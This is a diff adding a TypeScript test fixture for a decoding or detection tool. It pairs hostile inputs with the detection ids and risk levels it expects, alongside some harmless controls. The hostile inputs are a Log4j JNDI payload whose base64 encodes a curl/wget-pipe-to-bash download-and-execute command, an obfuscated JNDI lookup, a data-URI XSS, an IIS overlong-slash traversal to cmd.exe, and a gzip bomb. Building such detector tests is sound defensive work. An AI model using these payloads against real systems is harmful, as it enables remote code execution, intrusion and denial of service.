@@ -1,0 +1,88 @@
+import { gzipSync } from 'node:zlib';
+import type { ToolCases } from '../../../src/tools/testing/check-cases.ts';
+
+export const decode: ToolCases = {
+  hostile: [
+    {
+      name: 'a look-up whose path is a command of the shell',
+      source: 'Kinsing against Log4j, published in December 2021',
+      input:
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a look-up of Log4j
+        '${jndi:ldap://192.0.2.233:12344/Basic/Command/Base64/' +
+        `${base64('(curl -s 192.0.2.233:5874/10.0.0.1:80||wget -q -O- 192.0.2.233:5874/10.0.0.1:80)|bash')}}`,
+      ids: ['decode.download-execute', 'decode.jndi', 'decode.layer'],
+      risk: 'high',
+    },
+    {
+      name: 'a look-up that is spelled with default values',
+      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
+      input:
+        '$' +
+        '{$' +
+        '{::-j}$' +
+        '{::-n}$' +
+        '{::-d}$' +
+        '{::-i}:$' +
+        '{::-r}$' +
+        '{::-m}$' +
+        '{::-i}://192.0.2.7/a}',
+      ids: ['decode.jndi'],
+      risk: 'high',
+    },
+    {
+      name: 'a page with a script inside an address',
+      source: 'RFC 2397; OWASP, XSS Filter Evasion Cheat Sheet',
+      input: `data:text/html;base64,${base64("<script>alert('XSS')</script>")}`,
+      ids: ['decode.hidden-script', 'decode.layer'],
+      risk: 'medium',
+    },
+    {
+      name: 'folders left through an overlong slash',
+      source: 'CVE-2000-0884, Microsoft MS00-078; RFC 3629, 10',
+      input: '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
+      ids: ['decode.layer', 'decode.overlong', 'decode.path-traversal'],
+      risk: 'medium',
+    },
+    {
+      name: 'four mebibytes of zeros in a few kilobytes',
+      source: 'CWE-409',
+      input: gzipSync(Buffer.alloc(4 << 20)).toString('base64'),
+      ids: ['decode.bomb', 'decode.layer'],
+      risk: 'high',
+    },
+  ],
+  harmless: [
+    {
+      name: 'the longest test vector',
+      source: 'RFC 4648, 10',
+      input: 'Zm9vYmFy',
+      ids: ['decode.layer'],
+      risk: 'none',
+    },
+    {
+      name: 'a form with umlauts',
+      source: 'URL Standard, application/x-www-form-urlencoded',
+      input: 'name=J%C3%BCrgen+M%C3%BCller&city=K%C3%B6ln',
+      ids: ['decode.layer'],
+      risk: 'none',
+    },
+    {
+      name: 'a sentence',
+      source: 'RFC 1951: plain text is not compressed',
+      input: 'The quick brown fox jumps over the lazy dog.',
+      ids: [],
+      risk: 'none',
+    },
+    {
+      name: 'character references of a page',
+      source: 'HTML Standard, 13.5',
+      input: '<p>&copy; 2026 M&uuml;ller &amp; S&#246;hne</p>',
+      ids: ['decode.layer'],
+      risk: 'none',
+    },
+  ],
+};
+
+function base64(text: string): string {
+  return Buffer.from(text).toString('base64');
+}
